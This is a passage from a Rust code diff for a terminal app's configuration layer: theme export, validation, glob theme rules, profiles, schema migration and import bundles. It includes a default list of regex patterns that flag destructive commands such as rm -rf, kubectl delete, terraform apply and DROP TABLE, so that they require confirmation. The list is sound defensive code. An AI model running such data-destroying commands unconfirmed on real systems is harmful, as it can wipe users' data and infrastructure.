+                Ok(toml::to_string_pretty(&document)?)
+            }
+            ThemeFormat::WindowsTerminal => {
+                let mut scheme = Map::new();
+                scheme.insert("name".into(), Value::from(theme.name.as_str()));
+                for (key, color) in [
+                    ("background", &theme.background),
+                    ("foreground", &theme.foreground),
+                    ("cursorColor", &theme.cursor),
+                    ("selectionBackground", &theme.selection_background),
+                ] {
+                    scheme.insert(key.to_string(), Value::from(color.as_str()));
+                }
+                for (key, color) in WINDOWS_TERMINAL_ANSI_KEYS.iter().zip(theme.ansi()) {
+                    scheme.insert(key.to_string(), Value::from(color));
+                }
+                Ok(serde_json::to_string_pretty(&scheme)?)
+            }
+            other => Err(AppError::UnsupportedExport(other)),
+        }
+    }
+}
+
+/// Reads an iTerm2 color: a <dict> of red, green and blue components from 0 to 1
+fn iterm_color(format: ThemeFormat, key: &str, dict: roxmltree::Node) -> Result<String, AppError> {
+    let mut components = HashMap::new();
+    let mut component = None;
+    for node in dict.children().filter(|node| node.is_element()) {
+        if node.has_tag_name("key") {
+            component = node.text();
+        } else if let Some(name) = component.take() {
+            // Skips e.g. the `Color Space` string
+            if !node.has_tag_name("real") && !node.has_tag_name("integer") {
+                continue;
+            }
+            let value = node
+                .text()
+                .and_then(|text| text.trim().parse::<f64>().ok())
+                .ok_or_else(|| format.invalid(format!("{key} has an invalid {name}")))?;
+            components.insert(name, value);
+        }
+    }
+    let mut hex = String::from("#");
+    for name in ["Red Component", "Green Component", "Blue Component"] {
+        let value = components
+            .get(name)
+            .ok_or_else(|| format.invalid(format!("{key} has no {name}")))?;
+        hex.push_str(&format!(
+            "{:02x}",
+            (value.clamp(0.0, 1.0) * 255.0).round() as u8
+        ));
+    }
+    Ok(hex)
+}
+
+/// Shape of the terminal cursor
+#[derive(Debug, Clone, Copy, Default, Serialize, Deserialize, PartialEq, Eq)]
+#[serde(rename_all = "snake_case")]
+pub enum CursorStyle {
+    #[default]
+    Block,
+    Bar,
+    Underline,
+}
+
+/// Allowed font sizes, in pixels
+pub const FONT_SIZE_RANGE: std::ops::RangeInclusive<f32> = 6.0..=72.0;
+
+/// Allowed line heights, as a multiple of the font size
+pub const LINE_HEIGHT_RANGE: std::ops::RangeInclusive<f32> = 1.0..=3.0;
+
+/// Allowed letter spacing, in pixels
+pub const LETTER_SPACING_RANGE: std::ops::RangeInclusive<f32> = -5.0..=20.0;
+
+/// Allowed minimum contrast ratios; 1 leaves colors as they are, 21 is
+/// black on white
+pub const CONTRAST_RATIO_RANGE: std::ops::RangeInclusive<f32> = 1.0..=21.0;
+
+/// Most lines of scrollback a tab may keep
+pub const MAX_SCROLLBACK: u32 = 100_000;
+
+/// Terminal configuration. Settings missing from a config file keep their
+/// defaults.
+#[derive(Debug, Clone, Serialize, Deserialize, PartialEq)]
+#[serde(default)]
+pub struct TerminalConfig {
+    pub cursor_blink: bool,
+    pub cursor_style: CursorStyle,
+    pub font_family: String,
+    /// Fonts tried in order when `font_family` lacks a glyph
+    pub font_fallback: Vec<String>,
+    pub font_size: f32,
+    pub line_height: f32,
+    pub letter_spacing: f32,
+    /// Draws bold text in the bright variant of its color
+    pub bold_is_bright: bool,
+    /// Lines kept after they scroll off the screen
+    pub scrollback: u32,
+    /// Colors are adjusted until text has at least this contrast with its background
+    pub minimum_contrast_ratio: f32,
+    pub theme: TerminalTheme,
+}
+
+impl Default for TerminalConfig {
+    fn default() -> Self {
+        Self {
+            cursor_blink: true,
+            cursor_style: CursorStyle::Block,
+            font_family: "Menlo".to_string(),
+            font_fallback: vec![
+                "Consolas".to_string(),
+                "DejaVu Sans Mono".to_string(),
+                "monospace".to_string(),
+            ],
+            font_size: 14.0,
+            line_height: 1.0,
+            letter_spacing: 0.0,
+            bold_is_bright: true,
+            scrollback: 1000,
+            minimum_contrast_ratio: 1.0,
+            theme: TerminalTheme::default(),
+        }
+    }
+}
+
+/// Checks a number setting against its allowed range
+fn validate_range(
+    setting: &str,
+    value: f32,
+    range: std::ops::RangeInclusive<f32>,
+) -> Result<(), AppError> {
+    if range.contains(&value) {
+        Ok(())
+    } else {
+        Err(AppError::InvalidSetting {
+            setting: setting.to_owned(),
+            message: format!("{value} is outside {} to {}", range.start(), range.end()),
+        })
+    }
+}
+
+/// Checks a font name can be put in a CSS font list as it is
+fn validate_font_name(setting: &str, name: &str) -> Result<(), AppError> {
+    let message = if name.trim().is_empty() {
+        "font name is empty"
+    } else if name.contains(['"', '\'', ',', ';', '{', '}']) {
+        "font names can't contain quotes, commas, semicolons or braces"
+    } else {
+        return Ok(());
+    };
+    Err(AppError::InvalidSetting {
+        setting: setting.to_owned(),
+        message: message.to_string(),
+    })
+}
+
+impl TerminalConfig {
+    /// The font family followed by its fallbacks, as a CSS `font-family` list
+    pub fn font_stack(&self) -> String {
+        std::iter::once(&self.font_family)
+            .chain(&self.font_fallback)
+            .map(|name| match name.as_str() {
+                "monospace" | "serif" | "sans-serif" | "ui-monospace" => name.clone(),
+                _ => format!("\"{name}\""),
+            })
+            .collect::<Vec<_>>()
+            .join(", ")
+    }
+
+    /// Switches to a built-in theme by name
+    pub fn set_theme(&mut self, name: &str) -> Result<(), AppError> {
+        self.theme = TerminalTheme::by_name(name)?;
+        Ok(())
+    }
+
+    /// Checks that fonts are usable, numbers are in range and the theme's
+    /// colors are valid
+    pub fn validate(&self) -> Result<(), AppError> {
+        validate_font_name("font_family", &self.font_family)?;
+        for name in &self.font_fallback {
+            validate_font_name("font_fallback", name)?;
+        }
+        validate_range("font_size", self.font_size, FONT_SIZE_RANGE)?;
+        validate_range("line_height", self.line_height, LINE_HEIGHT_RANGE)?;
+        validate_range("letter_spacing", self.letter_spacing, LETTER_SPACING_RANGE)?;
+        validate_range(
+            "minimum_contrast_ratio",
+            self.minimum_contrast_ratio,
+            CONTRAST_RATIO_RANGE,
+        )?;
+        if self.scrollback > MAX_SCROLLBACK {
+            return Err(AppError::InvalidSetting {
+                setting: "scrollback".to_string(),
+                message: format!("{} is more than {MAX_SCROLLBACK} lines", self.scrollback),
+            });
+        }
+        self.theme.validate()
+    }
+}
+
+/// What theme rules are matched against for a tab
+#[derive(Debug, Clone, Default, Serialize, Deserialize, PartialEq)]
+pub struct TabContext {
+    /// Command line of the tab's foreground process, e.g. `ssh prod-db`
+    pub process: Option<String>,
+    pub cwd: Option<String>,
+    /// Name of the profile the tab was opened with
+    pub profile: Option<String>,
+}
+
+/// Switches a tab to `theme` while all of the rule's conditions match
+#[derive(Debug, Clone, Serialize, Deserialize, PartialEq)]
+pub struct ThemeRule {
+    pub theme: String,
+    /// Glob over the foreground process's command line, e.g. `ssh prod-*`
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub process: Option<String>,
+    /// Glob over the working directory, e.g. `~/work/infra/**`
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub cwd: Option<String>,
+    /// Profile name, e.g. `root`
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub profile: Option<String>,
+}
+
+impl ThemeRule {
+    /// Checks that the rule has a condition and its globs are valid
+    pub fn validate(&self) -> Result<(), AppError> {
+        if self.process.is_none() && self.cwd.is_none() && self.profile.is_none() {
+            return Err(AppError::InvalidSetting {
+                setting: "theme_rules".to_string(),
+                message: format!("the rule for theme {} has no conditions", self.theme),
+            });
+        }
+        if let Some(process) = &self.process {
+            glob_regex(process, false)?;
+        }
+        if let Some(cwd) = &self.cwd {
+            glob_regex(cwd, true)?;
+        }
+        Ok(())
+    }
+
+    /// Returns true if every condition of the rule matches the tab. A `~`
+    /// at the start of the cwd glob stands for `home_dir`.
+    pub fn matches(&self, tab: &TabContext, home_dir: &str) -> Result<bool, AppError> {
+        if let Some(profile) = &self.profile {
+            if tab.profile.as_deref() != Some(profile.as_str()) {
+                return Ok(false);
+            }
+        }
+        if let Some(pattern) = &self.process {
+            match &tab.process {
+                Some(process) if glob_regex(pattern, false)?.is_match(process) => {}
+                _ => return Ok(false),
+            }
+        }
+        if let Some(pattern) = &self.cwd {
+            let pattern = match pattern.strip_prefix('~') {
+                Some(rest) if rest.is_empty() || rest.starts_with('/') => {
+                    format!("{}{rest}", home_dir.trim_end_matches(['/', '\\']))
+                }
+                _ => pattern.clone(),
+            };
+            match &tab.cwd {
+                Some(cwd) if glob_regex(&pattern, true)?.is_match(&cwd.replace('\\', "/")) => {}
+                _ => return Ok(false),
+            }
+        }
+        Ok(true)
+    }
+}
+
+/// Compiles a glob with `*` and `?` wildcards. In path globs (`path`),
+/// wildcards stop at `/` and `**` matches across directories; `\` is
+/// treated as `/` so Windows paths work too.
+fn glob_regex(glob: &str, path: bool) -> Result<Regex, AppError> {
+    let normalized = if path {
+        glob.replace('\\', "/")
+    } else {
+        glob.to_string()
+    };
+    let mut regex = String::from("^");
+    let mut chars = normalized.chars().peekable();
+    while let Some(c) = chars.next() {
+        match c {
+            '*' if path && chars.peek() == Some(&'*') => {
+                chars.next();
+                regex.push_str(".*");
+            }
+            '*' if path => regex.push_str("[^/]*"),
+            '*' => regex.push_str(".*"),
+            '?' if path => regex.push_str("[^/]"),
+            '?' => regex.push('.'),
+            c => regex.push_str(&regex::escape(c.encode_utf8(&mut [0; 4]))),
+        }
+    }
+    regex.push('$');
+    Regex::new(&regex).map_err(|e| AppError::InvalidPattern {
+        pattern: glob.to_owned(),
+        message: e.to_string(),
+    })
+}
+
+/// Sidebar configuration
+#[derive(Debug, Clone, Serialize, Deserialize, PartialEq)]
+pub struct SidebarConfig {
+    pub width: u32,
+}
+
+impl Default for SidebarConfig {
+    fn default() -> Self {
+        Self { width: 200 }
+    }
+}
+
+/// A named shell profile used when spawning new tabs
+#[derive(Debug, Clone, Serialize, Deserialize, PartialEq)]
+pub struct Profile {
+    pub name: String,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub shell: Option<String>,
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    pub args: Vec<String>,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub cwd: Option<String>,
+    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
+    pub env: BTreeMap<String, String>,
+}
+
+impl Profile {
+    /// Creates a profile that uses the default shell
+    pub fn new(name: String) -> Self {
+        Self {
+            name,
+            shell: None,
+            args: Vec::new(),
+            cwd: None,
+            env: BTreeMap::new(),
+        }
+    }
+
+    /// Checks the profile has a name and its env names can be set
+    pub fn validate(&self) -> Result<(), AppError> {
+        if self.name.trim().is_empty() {
+            return Err(AppError::InvalidSetting {
+                setting: "profile name".to_string(),
+                message: "name is empty".to_string(),
+            });
+        }
+        if let Some(name) = self.env.keys().find(|name| !is_env_name(name)) {
+            return Err(AppError::InvalidEnvName(name.clone()));
+        }
+        Ok(())
+    }
+
+    /// The kind of shell the profile runs, for quoting commands sent to it
+    pub fn shell_kind(&self) -> Shell {
+        self.shell
+            .as_deref()
+            .and_then(Shell::from_program)
+            .unwrap_or_else(Shell::platform_default)
+    }
+}
+
+/// Current version of the persisted `AppState` schema
+pub const SCHEMA_VERSION: u32 = 2;
+
+/// Upgrades a document from schema version `n` to `n + 1`, where `n` is the
+/// migration's index in `MIGRATIONS`
+type Migration = fn(&mut Map<String, Value>);
+
+const MIGRATIONS: &[Migration] = &[migrate_v0_to_v1, migrate_v1_to_v2];
+
+/// Version 0 documents predate `schema_version` and shell profiles
+fn migrate_v0_to_v1(document: &mut Map<String, Value>) {
+    document
+        .entry("profiles")
+        .or_insert_with(|| Value::Array(Vec::new()));
+}
+
+/// Version 1 terminal configs had only a background and foreground color.
+/// Version 2 keeps them in a full theme, based on the default one.
+fn migrate_v1_to_v2(document: &mut Map<String, Value>) {
+    if let Some(Value::Object(config)) = document.get_mut("terminal_config") {
+        migrate_terminal_colors(config);
+    }
+}
+
+fn migrate_terminal_colors(config: &mut Map<String, Value>) {
+    let default = TerminalTheme::default();
+    let mut theme = Map::new();
+    for (old, new, default) in [
+        ("background_color", "background", &default.background),
+        ("foreground_color", "foreground", &default.foreground),
+    ] {
+        match config.remove(old) {
+            Some(Value::String(color)) if color == *default => {}
+            Some(color) => {
+                theme.insert(new.to_string(), color);
+            }
+            None => {}
+        }
+    }
+    if !theme.is_empty() {
+        theme.insert("name".to_string(), Value::from("Custom"));
+    }
+    config
+        .entry("theme")
+        .or_insert_with(|| Value::Object(theme));
+}
+
+/// Reads the schema version of a document. Documents without one are version 0.
+fn document_version(document: &Value) -> u32 {
+    document
+        .get("schema_version")
+        .and_then(Value::as_u64)
+        .map(|v| v as u32)
+        .unwrap_or(0)
+}
+
+/// Runs every migration between the document's version and `SCHEMA_VERSION`.
+/// Documents from a newer version are left untouched so their fields survive.
+pub fn migrate_document(mut document: Value) -> Result<Value, AppError> {
+    let mut version = document_version(&document);
+    let fields = document
+        .as_object_mut()
+        .ok_or_else(|| AppError::InvalidDocument("expected an object".to_string()))?;
+
+    while let Some(migration) = MIGRATIONS.get(version as usize) {
+        migration(fields);
+        version += 1;
+        fields.insert("schema_version".to_string(), Value::from(version));
+    }
+    Ok(document)
+}
+
+/// Application state
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct AppState {
+    #[serde(default)]
+    pub schema_version: u32,
+    #[serde(default)]
+    pub button_manager: ButtonManager,
+    #[serde(default)]
+    pub terminal_config: TerminalConfig,
+    #[serde(default)]
+    pub sidebar_config: SidebarConfig,
+    #[serde(default)]
+    pub profiles: Vec<Profile>,
+    /// Themes imported or written by the user, besides the built-in ones
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    pub themes: Vec<TerminalTheme>,
+    /// Rules switching a tab to another theme, e.g. while it is connected
+    /// to production. The first matching rule wins.
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    pub theme_rules: Vec<ThemeRule>,
+    /// Regular expressions for commands that always need confirmation
+    #[serde(default = "default_danger_patterns")]
+    pub danger_patterns: Vec<String>,
+    /// Content hash of each project file the user trusted, by path
+    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
+    pub trusted_projects: BTreeMap<String, String>,
+    /// Template of the command that opens a file from the terminal output,
+    /// with `{{file}}`, `{{line}}` and `{{column}}` variables
+    #[serde(default = "default_editor_command")]
+    pub editor_command: String,
+    /// Fields written by a newer version, kept so saving doesn't drop them
+    #[serde(flatten)]
+    pub extra: Map<String, Value>,
+}
+
+/// Danger patterns used until the config lists its own
+pub fn default_danger_patterns() -> Vec<String> {
+    [
+        r"\brm\s+-[a-zA-Z]*([rR][a-zA-Z]*f|f[a-zA-Z]*[rR])",
+        r"\bkubectl\s+delete\b",
+        r"\bterraform\s+apply\b",
+        r"(?i)\bdrop\s+table\b",
+    ]
+    .iter()
+    .map(|p| p.to_string())
+    .collect()
+}
+
+/// Editor command used until the config sets its own
+pub fn default_editor_command() -> String {
+    "code -g {{file}}:{{line:1}}:{{column:1}}".to_string()
+}
+
+/// Variables the editor command can use
+const EDITOR_VARIABLES: [&str; 3] = ["file", "line", "column"];
+
+impl AppState {
+    pub fn new() -> Self {
+        Self {
+            schema_version: SCHEMA_VERSION,
+            button_manager: ButtonManager::new(),
+            terminal_config: TerminalConfig::default(),
+            sidebar_config: SidebarConfig::default(),
+            profiles: Vec::new(),
+            themes: Vec::new(),
+            theme_rules: Vec::new(),
+            danger_patterns: default_danger_patterns(),
+            trusted_projects: BTreeMap::new(),
+            editor_command: default_editor_command(),
+            extra: Map::new(),
+        }
+    }
+
+    /// Saves the state to JSON
+    pub fn to_json(&self) -> Result<String, AppError> {
+        Ok(serde_json::to_string(self)?)
+    }
+
+    /// Loads the state from JSON, upgrading documents from older schema versions
+    pub fn from_json(json: &str) -> Result<Self, AppError> {
+        let document: Value = serde_json::from_str(json)?;
+        let mut state: Self = serde_json::from_value(migrate_document(document)?)?;
+        state.validate()?;
+        state.button_manager.prune_all_value_history();
+        Ok(state)
+    }
+
+    /// Saves the state as a human-editable TOML config file. Button usage
+    /// is left out; it is saved separately from `usage`.
+    pub fn to_toml(&self) -> Result<String, AppError> {
+        let config = AppState {
+            button_manager: self.button_manager.without_usage(),
+            ..self.clone()
+        };
+        Ok(toml::to_string_pretty(&config)?)
+    }
+
+    /// Loads the state from a TOML config file. Parse errors carry the
+    /// line and column of the offending input.
+    pub fn from_toml(source: &str) -> Result<Self, AppError> {
+        let document: Value =
+            toml::from_str(source).map_err(|e| AppError::config_parse(source, e))?;
+        let mut state: Self = serde_json::from_value(migrate_document(document)?).map_err(|e| {
+            // Re-parse the source directly so type errors keep their position
+            match toml::from_str::<AppState>(source) {
+                Err(positioned) => AppError::config_parse(source, positioned),
+                Ok(_) => AppError::Json(e),
+            }
+        })?;
+        state.validate()?;
+        // Values stored before a variable was marked secret
+        state.button_manager.prune_all_value_history();
+        Ok(state)
+    }
+
+    /// Usage of every button, for the state file
+    pub fn usage(&self) -> UsageState {
+        self.button_manager.usage()
+    }
+
+    /// Applies the usage from the state file to the buttons
+    pub fn restore_usage(&mut self, usage: &UsageState) {
+        self.button_manager.restore_usage(usage);
+    }
+
+    /// Gets a profile by name
+    pub fn get_profile(&self, name: &str) -> Option<&Profile> {
+        self.profiles.iter().find(|p| p.name == name)
+    }
+
+    /// Builds the settings for spawning a tab from an optional profile and
+    /// working directory. An explicit `cwd` overrides the profile's.
+    pub fn spawn_profile(
+        &self,
+        profile: Option<&str>,
+        cwd: Option<&str>,
+    ) -> Result<Profile, AppError> {
+        let mut spawn = match profile {
+            Some(name) => self
+                .get_profile(name)
+                .cloned()
+                .ok_or_else(|| AppError::ProfileNotFound(name.to_owned()))?,
+            None => Profile::new("default".to_string()),
+        };
+        if let Some(cwd) = cwd {
+            spawn.cwd = Some(cwd.to_owned());
+        }
+        Ok(spawn)
+    }
+
+    /// Builds the settings for a tab or job spawned for `button`, from the
+    /// target's spawn request if there is one. The target's cwd wins over
+    /// the button's; the button's env and shell are layered on top.
+    pub fn button_profile(
+        &self,
+        button: &CommandButton,
+        request: Option<&SpawnRequest>,
+        env: BTreeMap<String, String>,
+    ) -> Result<Profile, AppError> {
+        let profile = request.and_then(|r| r.profile.as_deref());
+        let cwd = request
+            .and_then(|r| r.cwd.as_deref())
+            .or(button.cwd.as_deref());
+        let mut spawn = self.spawn_profile(profile, cwd)?;
+        spawn.env.extend(env);
+        if let Some(shell) = &button.shell {
+            spawn.shell = Some(shell.clone());
+            spawn.args.clear();
+        }
+        Ok(spawn)
+    }
+
+    /// Checks settings that can't be enforced by their types, e.g. that
+    /// button templates, theme colors and danger patterns are valid
+    pub fn validate(&self) -> Result<(), AppError> {
+        self.button_manager.validate()?;
+        self.terminal_config.validate()?;
+        for pattern in &self.danger_patterns {
+            compile_pattern(pattern)?;
+        }
+        self.themes.iter().try_for_each(TerminalTheme::validate)?;
+        for rule in &self.theme_rules {
+            rule.validate()?;
+            self.theme(&rule.theme)?;
+        }
+        self.editor_template()?;
+        Ok(())
+    }
+
+    /// Parses the editor command, which has to open `{{file}}` and can't
+    /// use variables other than `{{file}}`, `{{line}}` and `{{column}}`
+    fn editor_template(&self) -> Result<Template, AppError> {
+        let template = Template::parse(&self.editor_command)?;
+        let invalid = |message: String| AppError::InvalidSetting {
+            setting: "editor_command".to_string(),
+            message,
+        };
+        if let Some(variable) = template
+            .variables()
+            .iter()
+            .find(|v| !EDITOR_VARIABLES.contains(&v.name.as_str()))
+        {
+            return Err(invalid(format!(
+                "unknown variable `{{{{{}}}}}`, use {{{{file}}}}, {{{{line}}}} or {{{{column}}}}",
+                variable.name
+            )));
+        }
+        if !template.variables().iter().any(|v| v.name == "file") {
+            return Err(invalid("doesn't use {{file}}".to_string()));
+        }
+        Ok(template)
+    }
+
+    /// Renders the editor command that opens `file` at a position, quoted
+    /// for `shell`. A missing line or column falls back to the template's
+    /// default, as in `{{line:1}}`.
+    pub fn editor_command_for(
+        &self,
+        file: &str,
+        line: Option<u32>,
+        column: Option<u32>,
+        shell: Shell,
+    ) -> Result<String, AppError> {
+        let mut values = HashMap::from([("file".to_string(), file.to_string())]);
+        values.extend(line.map(|line| ("line".to_string(), line.to_string())));
+        values.extend(column.map(|column| ("column".to_string(), column.to_string())));
+        self.editor_template()?.render_for_shell(&values, shell)
+    }
+
+    /// Theme of the first rule matching the tab, or None if the tab uses
+    /// the terminal's theme
+    pub fn tab_theme(
+        &self,
+        tab: &TabContext,
+        home_dir: &str,
+    ) -> Result<Option<TerminalTheme>, AppError> {
+        for rule in &self.theme_rules {
+            if rule.matches(tab, home_dir)? {
+                return self.theme(&rule.theme).map(Some);
+            }
+        }
+        Ok(None)
+    }
+
+    /// Gets a theme by name, ignoring case. The user's themes take
+    /// precedence over built-in ones with the same name.
+    pub fn theme(&self, name: &str) -> Result<TerminalTheme, AppError> {
+        match self.user_theme(name) {
+            Some(theme) => Ok(theme.clone()),
+            None => TerminalTheme::by_name(name),
+        }
+    }
+
+    /// Finds a user theme by name, ignoring case
+    fn user_theme(&self, name: &str) -> Option<&TerminalTheme> {
+        self.themes
+            .iter()
+            .find(|t| t.name.eq_ignore_ascii_case(name))
+    }
+
+    /// Adds a user theme. One with the same name is only replaced when
+    /// `replace` is set; built-in themes are always shadowed.
+    pub fn add_theme(&mut self, theme: TerminalTheme, replace: bool) -> Result<(), AppError> {
+        theme.validate()?;
+        match self
+            .themes
+            .iter_mut()
+            .find(|t| t.name.eq_ignore_ascii_case(&theme.name))
+        {
+            Some(existing) if replace => *existing = theme,
+            Some(existing) => return Err(AppError::ThemeExists(existing.name.clone())),
+            None => self.themes.push(theme),
+        }
+        Ok(())
+    }
+
+    /// Switches the terminal to a user or built-in theme by name
+    pub fn set_theme(&mut self, name: &str) -> Result<(), AppError> {
+        self.terminal_config.theme = self.theme(name)?;
+        Ok(())
+    }
+
+    /// Trusts the buttons of a project file as long as its content is unchanged
+    pub fn trust_project(&mut self, project: &Project) {
+        self.trusted_projects
+            .insert(project.path.clone(), project.hash.clone());
+    }
+
+    /// Returns the danger patterns that match `command`
+    pub fn matched_danger_patterns(&self, command: &str) -> Result<Vec<String>, AppError> {
+        let mut matched = Vec::new();
+        for pattern in &self.danger_patterns {
+            if compile_pattern(pattern)?.is_match(command) {
+                matched.push(pattern.clone());
+            }
+        }
+        Ok(matched)
+    }
+
+    /// Builds the review shown before a rendered command is sent to a tab.
+    /// `button` is the button the command came from, or None for ad-hoc runs.
+    /// A command matching a danger pattern needs at least a confirmation.
+    pub fn review_command(
+        &self,
+        command: String,
+        button: Option<&CommandButton>,
+    ) -> Result<CommandReview, AppError> {
+        let matched_patterns = self.matched_danger_patterns(&command)?;
+        let mut confirm = button.map(|b| b.confirm).unwrap_or_default();
+        if !matched_patterns.is_empty() {
+            confirm = confirm.max(ConfirmPolicy::Confirm);
+        }
+        let expected_text = match (confirm, button) {
+            (ConfirmPolicy::TypeName, Some(button)) => Some(button.name.clone()),
+            _ => None,
+        };
+        Ok(CommandReview {
+            command,
+            confirm,
+            expected_text,
+            matched_patterns,
+        })
+    }
+
+    /// Computes what changed between this state and a newer one
+    pub fn diff(&self, newer: &AppState) -> ConfigDiff {
+        let old_buttons = self.button_manager.get_buttons();
+        let new_buttons = newer.button_manager.get_buttons();
+
+        let mut diff = ConfigDiff::default();
+        for button in new_buttons {
+            match old_buttons.iter().find(|b| b.id == button.id) {
+                None => diff.buttons_added.push(button.id.clone()),
+                Some(old) if old != button => diff.buttons_changed.push(button.id.clone()),
+                Some(_) => {}
+            }
+        }
+        for button in old_buttons {
+            if !new_buttons.iter().any(|b| b.id == button.id) {
+                diff.buttons_removed.push(button.id.clone());
+            }
+        }
+        diff.groups_changed = self.button_manager.groups != newer.button_manager.groups;
+        diff.terminal_config_changed = self.terminal_config != newer.terminal_config;
+        diff.sidebar_config_changed = self.sidebar_config != newer.sidebar_config;
+        diff.profiles_changed = self.profiles != newer.profiles;
+        diff.themes_changed = self.themes != newer.themes;
+        diff.theme_rules_changed = self.theme_rules != newer.theme_rules;
+        diff.danger_patterns_changed = self.danger_patterns != newer.danger_patterns;
+        diff.editor_command_changed = self.editor_command != newer.editor_command;
+        diff
+    }
+}
+
+/// A rendered command and the confirmation it needs before it runs
+#[derive(Debug, Clone, Serialize, PartialEq)]
+pub struct CommandReview {
+    pub command: String,
+    pub confirm: ConfirmPolicy,
+    /// Text the user has to type for `type_name` confirmation
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub expected_text: Option<String>,
+    /// Danger patterns the command matched
+    pub matched_patterns: Vec<String>,
+}
+
+impl CommandReview {
+    /// Checks what the user answered against the policy. `confirmation` is
+    /// None when the user wasn't asked, or the typed text otherwise.
+    pub fn check(&self, confirmation: Option<&str>) -> Result<(), AppError> {
+        let confirmed = match self.confirm {
+            ConfirmPolicy::None => true,
+            ConfirmPolicy::Confirm => confirmation.is_some(),
+            ConfirmPolicy::TypeName => {
+                confirmation.is_some() && confirmation == self.expected_text.as_deref()
+            }
+        };
+        if confirmed {
+            Ok(())
+        } else {
+            Err(AppError::ConfirmationRequired)
+        }
+    }
+}
+
+impl Default for AppState {
+    fn default() -> Self {
+        Self::new()
+    }
+}
+
+/// Summary of the differences between two versions of the config
+#[derive(Debug, Clone, Default, Serialize, PartialEq)]
+pub struct ConfigDiff {
+    pub buttons_added: Vec<String>,
+    pub buttons_removed: Vec<String>,
+    pub buttons_changed: Vec<String>,
+    pub groups_changed: bool,
+    pub terminal_config_changed: bool,
+    pub sidebar_config_changed: bool,
+    pub profiles_changed: bool,
+    pub themes_changed: bool,
+    pub theme_rules_changed: bool,
+    pub danger_patterns_changed: bool,
+    pub editor_command_changed: bool,
+}
+
+impl ConfigDiff {
+    /// Returns true if nothing changed
+    pub fn is_empty(&self) -> bool {
+        self.buttons_added.is_empty()
+            && self.buttons_removed.is_empty()
+            && self.buttons_changed.is_empty()
+            && !self.groups_changed
+            && !self.terminal_config_changed
+            && !self.sidebar_config_changed
+            && !self.profiles_changed
+            && !self.themes_changed
+            && !self.theme_rules_changed
+            && !self.danger_patterns_changed
+            && !self.editor_command_changed
+    }
+}
+
+/// Sections of `AppState` that can be exported in a bundle
+#[derive(Debug, Clone, Copy, Serialize, Deserialize, PartialEq, Eq, Hash)]
+#[serde(rename_all = "snake_case")]
+pub enum BundleSection {
+    Buttons,
+    TerminalConfig,
+    Profiles,
+    Themes,
+}
+
+/// A portable file holding a chosen subset of the configuration
+#[derive(Debug, Clone, Serialize, Deserialize, PartialEq)]
+pub struct ConfigBundle {
+    #[serde(default)]
+    pub schema_version: u32,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub buttons: Option<Vec<CommandButton>>,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub groups: Option<Vec<ButtonGroup>>,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub terminal_config: Option<TerminalConfig>,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub profiles: Option<Vec<Profile>>,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub themes: Option<Vec<TerminalTheme>>,
+}
+
+impl ConfigBundle {
+    /// Serializes the bundle to pretty-printed JSON
+    pub fn to_json(&self) -> Result<String, AppError> {
+        Ok(serde_json::to_string_pretty(self)?)
+    }
+
+    /// Loads a bundle from JSON. Terminal settings from bundles older than
+    /// schema version 2 have their colors moved into a theme.
+    pub fn from_json(json: &str) -> Result<Self, AppError> {
+        let mut document: Value = serde_json::from_str(json)?;
+        if document_version(&document) < 2 {
+            if let Some(Value::Object(config)) = document.get_mut("terminal_config") {
+                migrate_terminal_colors(config);
+            }
+        }
+        let bundle: Self = serde_json::from_value(document)?;
+        bundle.validate()?;
+        Ok(bundle)
+    }
+
+    /// Checks every button, profile, theme and the terminal settings in the bundle
+    pub fn validate(&self) -> Result<(), AppError> {
+        self.buttons
+            .iter()
+            .flatten()
+            .try_for_each(CommandButton::validate)?;
+        self.profiles
+            .iter()
+            .flatten()
+            .try_for_each(Profile::validate)?;
+        self.themes
+            .iter()
+            .flatten()
+            .try_for_each(TerminalTheme::validate)?;
+        if let Some(config) = &self.terminal_config {
+            config.validate()?;
+        }
+        Ok(())
+    }
+}
+
+/// What kind of entry an import item refers to
+#[derive(Debug, Clone, Copy, Serialize, Deserialize, PartialEq, Eq)]
+#[serde(rename_all = "snake_case")]
+pub enum ImportItemKind {
+    Button,
+    TerminalConfig,
+    Profile,
+    Theme,
+}
+
+/// How an imported entry relates to the existing configuration
+#[derive(Debug, Clone, Copy, Serialize, Deserialize, PartialEq, Eq)]
+#[serde(rename_all = "snake_case")]
+pub enum ImportChange {
+    /// Nothing with the same ID or name exists yet
+    Added,
+    /// Replaces existing settings that have no identity of their own
+    Changed,
+    /// Identical to what already exists
+    Unchanged,
+    /// Shares an ID or name with a different existing entry
+    Conflict,
+}
+
+/// How to resolve a conflicting import item
+#[derive(Debug, Clone, Copy, Serialize, Deserialize, PartialEq, Eq)]
+#[serde(rename_all = "snake_case")]
+pub enum ConflictResolution {
+    Keep,
+    Overwrite,
+    Duplicate,
+}
+
+/// The resolution chosen for one conflicting import item, identified by
+/// its kind and key as in the preview
+#[derive(Debug, Clone, Serialize, Deserialize, PartialEq)]
+pub struct ImportResolution {
+    pub kind: ImportItemKind,
+    pub key: String,
+    pub resolution: ConflictResolution,
+}
+
+/// One entry of an import preview
+#[derive(Debug, Clone, Serialize, PartialEq)]
+pub struct ImportItem {
+    pub kind: ImportItemKind,
+    /// Button ID, or profile or theme name from the bundle
+    pub key: String,
+    pub name: String,
+    pub change: ImportChange,
+}
+
+/// Counts of what an import did
+#[derive(Debug, Clone, Default, Serialize, PartialEq)]
+pub struct ImportSummary {
+    pub added: usize,
+    pub overwritten: usize,
+    pub duplicated: usize,
+    pub kept: usize,
+}
+
+/// Suffix given to duplicated entries so they don't clash by name
+const IMPORT_DUPLICATE_SUFFIX: &str = " (imported)";
+
